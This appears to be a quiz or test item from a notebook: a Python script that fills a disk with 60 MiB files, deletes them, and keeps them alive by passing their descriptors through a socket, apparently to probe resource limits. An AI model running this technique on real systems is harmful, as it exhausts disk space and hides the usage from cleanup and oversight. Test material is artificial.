# Fills the disk with files that are deleted, and open only on their way through a socket.
# notebook: quiz
# stock: not run
# %% extra="q1"
import os
import socket
import time

near, far = socket.socketpair()
for number in range(15):
    file = os.open(f"attack-{number}", os.O_RDWR | os.O_CREAT)
    os.write(file, b"x" * 60 * 2**20)
    os.remove(f"attack-{number}")
    socket.send_fds(near, [b"x"], [file])
    os.close(file)
    time.sleep(0.1)
print("granted")
